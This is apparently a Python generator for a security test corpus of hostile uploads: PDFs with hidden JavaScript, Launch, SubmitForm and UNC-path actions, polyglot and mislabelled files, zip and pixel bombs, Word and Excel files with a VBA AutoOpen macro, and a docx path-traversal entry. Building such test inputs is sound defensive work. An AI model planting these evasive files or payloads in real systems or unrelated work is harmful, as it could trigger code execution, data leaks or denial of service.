"""Writes the hostile upload corpus beside this file (run from the project's
root: `.venv/bin/python tests/data/hostile/generate.py`). The files are
committed; this script says how each was made, so that one can be made again
or a new one added. manifest.yaml says what govflow must answer to each, and
tests/security/test_hostile_uploads.py uploads every file in the folder.

The PDFs are written byte by byte (tests/security/pdfs.py) unless a real
writer is needed (qpdf, through pikepdf, for object streams and
encryption); the OLE files by the small compound-file writer below."""

from __future__ import annotations

import io
import itertools
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from tests.security.pdfs import PDF_BYTES, build_pdf, one_page_pdf  # noqa: E402

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"
HTML = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"


def zipped(*entries: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            # A fixed time: the same bytes on every run.
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def png(width: int, height: int, rows: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def page_pdf(page_extra: bytes, *more: bytes, catalog_extra: bytes = b"") -> bytes:
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE % page_extra,
        *more,
    )


def pikepdf_bytes(change, **save) -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    return buffer.getvalue()


def object_stream_javascript() -> bytes:
    import pikepdf

    def change(pdf):
        action = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )
        pdf.Root.OpenAction = action

    data = pikepdf_bytes(change, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    # The action is only inside the compressed object stream.
    assert b"JavaScript" not in data
    assert b"/JS" not in data
    return data


def encrypted(user: str) -> bytes:
    import pikepdf

    return pikepdf_bytes(lambda pdf: None, encryption=pikepdf.Encryption(user=user, owner="owner-secret"))


# -- a compound file (OLE2) writer: 512-byte sectors, no mini stream ----------
SECTOR = 512
FREE, END, FAT_SECTOR, NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def compound_file(tree: dict) -> bytes:
    """An OLE2 file holding `tree` ({name: bytes for a stream, or a dict for
    a storage}). Streams are padded to 4 KiB, so none is in the mini stream."""
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": []}]
    streams: list[tuple[int, bytes]] = []

    def add(node: dict, parent: int) -> None:
        for name, value in node.items():
            index = len(entries)
            entries[parent]["children"].append(index)
            if isinstance(value, dict):
                entries.append({"name": name, "type": 1, "children": []})
                add(value, index)
            else:
                data = value.ljust(4096, b"\0")
                entries.append({"name": name, "type": 2, "children": [], "size": len(data)})
                streams.append((index, data))

    add(tree, 0)
    directory_sectors = (len(entries) + 3) // 4
    stream_sectors = [len(data) // SECTOR for _index, data in streams]
    total = 1 + directory_sectors + sum(stream_sectors)
    assert total <= SECTOR // 4, "one FAT sector is enough for the corpus"
    fat = [FREE] * (SECTOR // 4)
    fat[0] = FAT_SECTOR
    next_sector = 1

    def chain(count: int) -> int:
        nonlocal next_sector
        first = next_sector
        for n in range(count):
            fat[first + n] = first + n + 1 if n < count - 1 else END
        next_sector += count
        return first

    first_directory = chain(directory_sectors)
    for (index, _data), count in zip(streams, stream_sectors, strict=True):
        entries[index]["start"] = chain(count)

    def entry_bytes(entry: dict, right: int, child: int) -> bytes:
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        return (
            name.ljust(64, b"\0")
            + struct.pack("<HBB", len(name), entry["type"], 1)
            + struct.pack("<III", NONE, right, child)
            + b"\0" * 16
            + b"\0" * 4
            + b"\0" * 16
            + struct.pack("<IQ", entry.get("start", END), entry.get("size", 0))
        )

    # Siblings are chained through their right links (every node black).
    right = {}
    for entry in entries:
        kids = entry["children"]
        for here, after in itertools.pairwise(kids):
            right[here] = after
    directory = b"".join(
        entry_bytes(entry, right.get(n, NONE), entry["children"][0] if entry["children"] else NONE)
        for n, entry in enumerate(entries)
    ).ljust(directory_sectors * SECTOR, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIII", 0, 1, first_directory, 0)
        + struct.pack("<IIIII", 4096, END, 0, END, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", FREE) * 108
    )
    assert len(header) == SECTOR
    body = struct.pack("<128I", *fat) + directory + b"".join(data for _index, data in streams)
    return header + body


PIXEL = png(1, 1, b"\x00\xff\xff\xff")
WORD = b"\xec\xa5\xc1\x00" + b"\0" * 60  # a Word FIB's first bytes
VBA = {"VBA": {"dir": b"\x01\x00attribute vb_name", "ThisDocument": b'Sub AutoOpen()\nShell "calc"\nEnd Sub'}}

FILES: dict[str, bytes] = {
    # PDFs: actions hidden from a byte pattern, and in compressed object streams
    "pdf-openaction-hex-javascript.pdf": one_page_pdf(
        b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"
    ),
    "pdf-openaction-hex-launch.pdf": one_page_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
    "pdf-javascript-in-object-stream.pdf": object_stream_javascript(),
    "pdf-page-additional-action-javascript.pdf": page_pdf(
        b"/AA << /O 4 0 R >> ", b"<< /S /JavaScript /J#53 (this.exportDataObject({cName: 'a'})) >>"
    ),
    "pdf-javascript-name-tree.pdf": one_page_pdf(
        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"<< /S /JavaScript /JS (app.alert(2)) >>"
    ),
    "pdf-xfa-form.pdf": one_page_pdf(
        b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"<< /Length 0 >>\nstream\n\nendstream"
    ),
    "pdf-gotor-unc-path.pdf": one_page_pdf(
        rb"/OpenAction << /S /GoToR /F (\\\\198.51.100.7\\share\\x.pdf) /D [0 /Fit] >>"
    ),
    "pdf-embedded-file.pdf": one_page_pdf(
        b"/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    ),
    "pdf-file-attachment-annotation.pdf": page_pdf(
        b"/Annots [4 0 R] ", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.exe) >>"
    ),
    "pdf-richmedia-annotation.pdf": page_pdf(
        b"/Annots [4 0 R] ", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
    ),
    "pdf-submitform.pdf": one_page_pdf(b"/OpenAction << /S /SubmitForm /F (https://198.51.100.7/c) >>"),
    "pdf-importdata.pdf": one_page_pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
    # PDFs that are not what they seem
    "pdf-encrypted-empty-password.pdf": encrypted(""),
    "pdf-encrypted-password.pdf": encrypted("user-secret"),
    "pdf-malformed-xref.pdf": PDF_BYTES.replace(b"0000000015 00000 n", b"0000000099 00000 n"),
    "pdf-no-xref.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    "pdf-data-after-eof.pdf": PDF_BYTES + b"%" + b"A" * 900 + b"\n" + b"B" * 4096,
    # polyglots: an archive other programs find in the file
    "pdf-zip-then-64k-padding.pdf": PDF_BYTES + zipped(("payload.html", HTML)) + b"\0" * 70_000,
    "pdf-64k-padding-then-zip.pdf": PDF_BYTES + b"\0" * 70_000 + zipped(("payload.html", HTML)),
    "pdf-zip-inside-before-eof.pdf": PDF_BYTES
    + zipped(("payload.html", HTML))
    + b"%" * 70_000
    + b"\n%%EOF\n",
    "jpeg-with-zip-appended.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + b"\xff\xd9"
    + zipped(("a.html", HTML)),
    "png-with-rar-appended.png": png(1, 1, b"\x00\xff\xff\xff") + b"Rar!\x1a\x07\x01\x00" + b"\0" * 64,
    # names and declared types that disagree with the bytes
    "pdf-named-as-html.html": PDF_BYTES,
    "pdf-named-as-exe.exe": PDF_BYTES,
    "pdf-named-as-svg.svg": PDF_BYTES,
    "pdf-declared-as-html.pdf": PDF_BYTES,
    "html-named-as-pdf.pdf": HTML,
    "exe-named-as-pdf.pdf": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\0" * 240
    + b"PE\0\0",
    "svg-with-script.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg-with-script-named-as-png.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    b'onload="alert(1)"/>',
    # images
    "png-with-html-near-start.png": PIXEL[:33] + HTML + PIXEL[33:],
    "png-truncated.png": png(64, 64, b"\x00" + b"\x80" * 192 * 64)[:80],
    "png-pixel-bomb.png": png(60_000, 60_000, b"\0" * 1000),
    # Office files: macros, packages, archive tricks
    "doc-with-vba-macros.doc": compound_file({"WordDocument": WORD, "Macros": VBA}),
    "xls-with-vba-macros.xls": compound_file({"Workbook": b"\x09\x08\x10\x00", "_VBA_PROJECT_CUR": VBA}),
    "doc-with-ole-package.doc": compound_file(
        {"WordDocument": WORD, "ObjectPool": {"_1": {"\x01Ole10Native": b"MZ payload.exe"}}}
    ),
}


def docx(*extra: tuple[str, bytes], content_types: bytes = b"") -> bytes:
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + content_types
        + b"</Types>"
    )
    return zipped(
        ("[Content_Types].xml", types),
        ("_rels/.rels", b"<Relationships/>"),
        ("word/document.xml", b"<w:document/>"),
        *extra,
    )


FILES.update(
    {
        "docx-with-vba-project.docx": docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 vba")),
        "docx-with-activex-control.docx": docx(("word/activeX/activeX1.xml", b"<ax:ocx/>")),
        "docx-macro-enabled-content-type.docx": docx(
            content_types=b'<Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "docx-path-traversal.docx": docx(("../../../../tmp/evil.sh", b"#!/bin/sh\n")),
        "docx-zip-bomb.docx": docx(("word/big.xml", b"\0" * (40 * 1024 * 1024))),
    }
)


def main() -> None:
    for name, data in FILES.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(FILES)} files to {HERE}")


if __name__ == "__main__":
    main()
